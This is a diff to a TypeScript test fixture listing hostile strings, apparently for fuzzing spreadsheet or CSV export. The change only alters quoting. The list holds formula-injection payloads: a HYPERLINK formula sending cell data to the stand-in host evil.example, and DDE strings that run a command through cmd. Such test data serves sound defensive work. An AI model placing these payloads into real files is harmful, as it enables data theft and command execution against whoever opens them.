@@ -8,9 +8,9 @@ import type { SeededRandom } from './seeded-random.ts';
  */
 export const HOSTILE_STRINGS = [
   '=HYPERLINK("http://evil.example/?leak="&A1,"Открыть отчёт")',
-  '+cmd|\' /C calc\'!A0',
-  '-2+3+cmd|\' /C calc\'!A0',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   'ООО "Рога и копыта"',
   "Д'Артаньян и сыновья",
   'C:\\1C\\Базы\\Торговля\\',
